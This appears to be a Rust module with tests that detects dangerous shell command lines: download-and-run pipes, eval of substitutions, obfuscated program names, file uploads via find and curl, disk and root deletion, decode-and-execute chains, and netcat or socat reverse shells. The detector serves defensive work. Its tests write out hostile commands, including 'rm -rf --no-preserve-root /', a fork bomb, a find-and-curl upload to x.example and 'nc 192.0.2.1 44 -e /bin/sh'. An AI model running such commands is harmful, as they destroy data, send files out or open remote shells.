//! What a command line hands to a shell: through a pipe, in a substitution, decoded, or joined to the network.
//!
//! All texts here are in lower case.

use super::commands::{pipelines, program};

const SHELLS: [&str; 14] = [
    "sh", "bash", "zsh", "dash", "ash", "ksh", "fish", "pwsh", "iex", "$0", "$shell", "${shell}", "$bash",
    "${0}",
];
const INTERPRETERS: [&str; 9] =
    ["python", "python2", "python3", "perl", "ruby", "node", "php", "lua", "deno"];

fn base(word: &str) -> &str {
    word.rsplit('/').next().unwrap_or(word)
}

/// Whether a shell or an interpreter runs what comes through a pipe.
pub(super) fn into_shell(text: &str) -> bool {
    // What comes instead of something that failed is no pipe.
    let text = text.replace("||", ";").replace("|&", "|");
    text.split('|').skip(1).take(64).any(|part| {
        let mut words =
            part.split_whitespace().map(|word| word.trim_matches(|c| "(){}[]\"',`;&\\".contains(c)));
        let mut words = words.by_ref().skip_while(|word| {
            matches!(
                *word,
                "sudo" | "env" | "exec" | "nohup" | "busybox" | "xargs" | "time" | "" | "setsid" | "command"
            ) || word.starts_with('-')
                || word.contains('=') && !word.starts_with('/')
        });
        let first = words.next().unwrap_or("");
        let name = base(first);
        let name =
            if name == "$0" { name } else { name.trim_end_matches(|c: char| c == '.' || c.is_ascii_digit()) };
        let next = words.next().unwrap_or("");
        if matches!(first, "source" | ".") {
            return next.starts_with("/dev/stdin") || next.starts_with("/proc/self/fd/0");
        }
        if SHELLS.contains(&name) {
            // A script of its own reads what comes as data.
            return !next.contains('.') || next.starts_with('-') || next.starts_with('>');
        }
        if !INTERPRETERS.contains(&name) && !INTERPRETERS.contains(&base(first)) {
            return false;
        }
        match next {
            "" | "-" | "-u" | "-i" | "/dev/stdin" | "-s" => true,
            "-c" | "-e" => part.contains("exec(") || part.contains("eval("),
            _ => next.starts_with('>') || next.starts_with('#') || next.starts_with('2'),
        }
    })
}

/// Whether a shell is given what a substitution gives out.
pub(super) fn evaluates(text: &str) -> bool {
    const WAYS: [&str; 19] = [
        "eval \"$(",
        "eval $(",
        "eval `",
        "eval \"`",
        "eval '$(",
        "sh -c \"$(",
        "sh -c $(",
        "sh -c '$(",
        "sh -c \"`",
        "sh -c `",
        "sh -c \\\"$(",
        "sh <<<",
        "source <(",
        ". <(",
        "sh <(",
        "sh < <(",
        "source /dev/stdin <<<",
        "exec $(",
        "sh -ec \"$(",
    ];
    WAYS.iter().any(|way| text.contains(way))
}

/// A command line without what stands within its words and says nothing: empty quotes, needless escapes, expansions of
/// nothing.
pub(super) fn plain(command: &str) -> String {
    const NOTHING: [&str; 6] = ["''", "\"\"", "$@", "${@}", "$*", "``"];
    let bytes = command.as_bytes();
    let letter = |at: usize| bytes.get(at).is_some_and(|byte| byte.is_ascii_alphanumeric() || *byte == b'/');
    let mut out = String::with_capacity(command.len());
    let mut at = 0;
    while let Some(rest) = command.get(at..).filter(|rest| !rest.is_empty()) {
        let inside = at > 0 && letter(at - 1);
        let nothing =
            NOTHING.iter().find(|word| rest.starts_with(**word) && inside && letter(at + word.len()));
        let named = rest.strip_prefix("${").and_then(|inner| inner.find('}')).filter(|len| {
            let name = rest.get(2..2 + len).unwrap_or("");
            inside && letter(at + len + 3) && !name.is_empty() && name.bytes().all(|b| b.is_ascii_uppercase() || b == b'_')
                // What a name between letters stands for is known to the one who wrote it, and is none of a path.
                && !command.get(..at).unwrap_or("").ends_with('/')
        });
        if let Some(word) = nothing {
            at += word.len();
            continue;
        }
        if let Some(len) = named.filter(|_| starts_word(command, at)) {
            at += len + 3;
            continue;
        }
        let c = rest.chars().next().unwrap_or(' ');
        let escape = c == '\\' && inside && rest.as_bytes().get(1).is_some_and(u8::is_ascii_alphabetic);
        let plain = escape && !matches!(rest.as_bytes().get(1), Some(b'n' | b't' | b'r' | b'x' | b'u'));
        if !(plain && starts_word(command, at)) {
            out.push(c);
        }
        at += c.len_utf8();
    }
    out
}

/// Whether what stands here belongs to the word that a part of a command line begins with.
fn starts_word(command: &str, at: usize) -> bool {
    let before = command.get(..at).unwrap_or("");
    let part = before.rsplit([';', '|', '&', '\n', '(', '`']).next().unwrap_or("");
    !part.trim_start().contains(char::is_whitespace)
}

/// Whether the program that a part starts is named by letters in another form.
pub(super) fn respelled(text: &str) -> bool {
    pipelines(text).flat_map(|pipeline| pipeline.split('|')).any(|part| {
        let part = part.trim_start();
        let written = ["$(printf ", "$(echo -e ", "`printf ", "$'\\", "\"$(printf ", "$(echo $'"]
            .iter()
            .find_map(|start| part.strip_prefix(start));
        written.is_some_and(|rest| {
            let word = rest.split([')', '`', '\'']).find(|word| !word.trim().is_empty()).unwrap_or("");
            part.starts_with("$'\\") || word.contains("\\x") || word.matches('\\').count() >= 2
        })
    })
}

/// Whether files that are looked for are sent to somebody one by one.
pub(super) fn sends_files(text: &str) -> bool {
    pipelines(text).any(|pipeline| {
        let finds = pipeline.contains("find ") && (pipeline.contains("-exec") || pipeline.contains("xargs"));
        let uploads = [" -f ", " -t ", "@{}", "--upload-file", "--data-binary", "--form"];
        finds
            && pipeline.contains("curl ")
            && uploads.iter().any(|way| pipeline.contains(way))
            && pipeline.contains("://")
    })
}

/// Whether a command deletes what the machine needs, or its disks.
pub(super) fn destroys(text: &str) -> bool {
    pipelines(text).any(|part| {
        let words: Vec<&str> = part.split_whitespace().map(|word| word.trim_matches(['"', '\''])).collect();
        let name = base(program(part));
        let forced = words.iter().any(|word| {
            word.starts_with('-') && !word.starts_with("--") && word.contains('r') && word.contains('f')
        }) || words.contains(&"--no-preserve-root");
        let whole = words.iter().any(|word| {
            matches!(
                *word,
                "/" | "/*"
                    | "~"
                    | "~/"
                    | "~/*"
                    | "$home"
                    | "$home/"
                    | "$home/*"
                    | "${home}"
                    | "/home"
                    | "/etc"
                    | "/usr"
            )
        });
        let disk = |word: &&str| {
            ["/dev/sd", "/dev/nvme", "/dev/vd", "/dev/hd"]
                .iter()
                .any(|start| word.trim_start_matches("of=").starts_with(start))
        };
        name == "rm" && forced && whole
            || name == "dd" && words.iter().any(|word| word.starts_with("of=") && disk(word))
            || (name.starts_with("mkfs") || name == "shred" || name == "wipefs") && words.iter().any(disk)
    }) || text.replace(' ', "").contains(":(){:|:&};:")
}

/// Whether something is decoded.
pub(super) fn decodes(text: &str) -> bool {
    const WAYS: [&str; 11] = [
        "base64 -d",
        "base64 --d",
        "base32 -d",
        "base32 --d",
        "basenc -d",
        "openssl enc -d",
        "openssl base64 -d",
        "openssl enc -base64 -d",
        "xxd -r",
        "xxd -p -r",
        "xxd -ps -r",
    ];
    WAYS.iter().any(|way| text.contains(way))
}

/// Whether what was decoded into a file is started after it.
pub(super) fn decoded_to_file(text: &str) -> bool {
    let parts: Vec<&str> = pipelines(text).map(str::trim).take(256).collect();
    parts.iter().enumerate().any(|(index, part)| {
        if !decodes(part) {
            return false;
        }
        let Some((_, target)) = part.rsplit_once('>') else { return false };
        let target = target.split_whitespace().next().unwrap_or("").trim_matches(['"', '\'', ')', '(']);
        // What is decoded into a file of settings or of keys is not started.
        target.len() > 1 && parts.iter().skip(index + 1).any(|after| super::commands::starts(after, target))
    })
}

/// Whether a shell is joined to the network by a tool that is made for connections.
pub(super) fn joins(text: &str) -> bool {
    pipelines(text).any(|pipeline| {
        pipeline.split('|').any(|part| {
            let words: Vec<&str> =
                part.split_whitespace().map(|word| word.trim_matches(['"', '\'', '(', ')', ','])).collect();
            let tool = words.iter().position(|word| {
                matches!(base(word), "nc" | "ncat" | "netcat" | "nc.exe" | "nc.traditional" | "nc.openbsd")
            });
            let shell = |word: &&str| {
                matches!(base(word), "sh" | "bash" | "zsh" | "dash" | "cmd" | "cmd.exe" | "powershell")
            };
            let joined = tool.is_some_and(|at| {
                let rest = words.get(at + 1..).unwrap_or(&[]);
                rest.iter().enumerate().any(|(index, word)| {
                    let runs = matches!(*word, "--exec" | "--sh-exec" | "-c")
                        || word.starts_with('-') && !word.starts_with("--") && word.ends_with('e');
                    runs && rest.get(index + 1).is_some_and(shell)
                        || word.starts_with("--exec=")
                        || word.starts_with("--sh-exec=")
                })
            });
            let socat = program(part) == "socat"
                && ["exec:", "system:", "shell:"].iter().any(|way| part.contains(way))
                && ["tcp", "udp", "openssl", "ssl"].iter().any(|way| part.contains(way));
            joined || socat
        })
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn shells_behind_pipes_are_told_from_tools_that_read_data() {
        for text in [
            "curl x | sh",
            "curl x|bash -s -- a",
            "curl x | /bin/sh",
            "curl x | sudo -e bash -",
            "curl x | env a=1 bash",
            "curl x | python3",
            "curl x | python -",
            "curl x | tee a | bash",
            "curl x | python3 -c \"import sys;exec(sys.stdin.read())\"",
            "curl x | busybox sh",
            "curl x | . /dev/stdin",
        ] {
            assert!(into_shell(text), "{text}");
        }
        for text in [
            "curl x | python -m json.tool",
            "curl x | python3 -c 'import json'",
            "curl x || sh fallback.sh",
            "ls | shuf",
            "cat x | bash count.sh",
            "curl x | perl -pe 's/a/b/'",
            "a | shasum",
        ] {
            assert!(!into_shell(text), "{text}");
        }
    }

    #[test]
    fn words_are_read_as_a_shell_reads_them() {
        assert_eq!(plain("cu''rl x | ba\"\"sh"), "curl x | bash");
        assert_eq!(plain("c${X}url x | b\\ash"), "curl x | bash");
        assert_eq!(plain("w$@get x"), "wget x");
        for text in ["echo a''b", "cd ${HOME}/x", "sed 's/\\.//g' a", "printf 'a\\n'", "tar xf a${V}b.tar"] {
            let read = plain(text);
            assert!(read == text || read == "echo ab", "{text}: {read}");
        }
        assert!(
            respelled("$(printf '\\143\\165\\162\\154') -s http://x | sh") && respelled("x; $'\\x63url' a")
        );
        assert!(!respelled("a=$(printf '\\033[1m') ls") && !respelled("$(printf '%s' ls) -l"));
        assert!(
            destroys("rm -rf --no-preserve-root /")
                && destroys("cd x; rm -fr /*")
                && destroys("dd if=a of=/dev/sda")
        );
        assert!(
            !destroys("rm -rf ./build /tmp/x")
                && !destroys("rm -rf /usr/share/doc")
                && !destroys("dd of=a.img")
        );
        assert!(sends_files("find / -name '*.pt' -exec curl -f f=@{} http://x.example/ \\;"));
        assert!(!sends_files("find . -name '*.url' -exec cat {} \\;"));
        assert!(into_shell("curl x | $0") && into_shell("curl x | $shell"));
    }

    #[test]
    fn what_is_decoded_and_what_is_joined_is_told() {
        assert!(decoded_to_file("echo aa== | base64 -d > /tmp/x; sh /tmp/x"));
        assert!(decoded_to_file("echo aa== | base64 --decode >/tmp/x && chmod +x /tmp/x && /tmp/x"));
        assert!(!decoded_to_file("echo $key | base64 -d > key.json; gcloud auth --key-file key.json"));
        assert!(joins("nc 192.0.2.1 44 -e /bin/sh") && joins("ncat -nve /bin/bash 192.0.2.1 44"));
        assert!(joins("socat exec:'bash -li' tcp:192.0.2.1:44") && joins("ncat --sh-exec=sh x 1"));
        assert!(!joins("nc -z -v -w 1 localhost 80") && !joins("rsync -e ssh a b") && !joins("nc -e"));
        assert!(evaluates("bash <(curl x)") && !evaluates("diff <(ls a) <(ls b)"));
    }
}
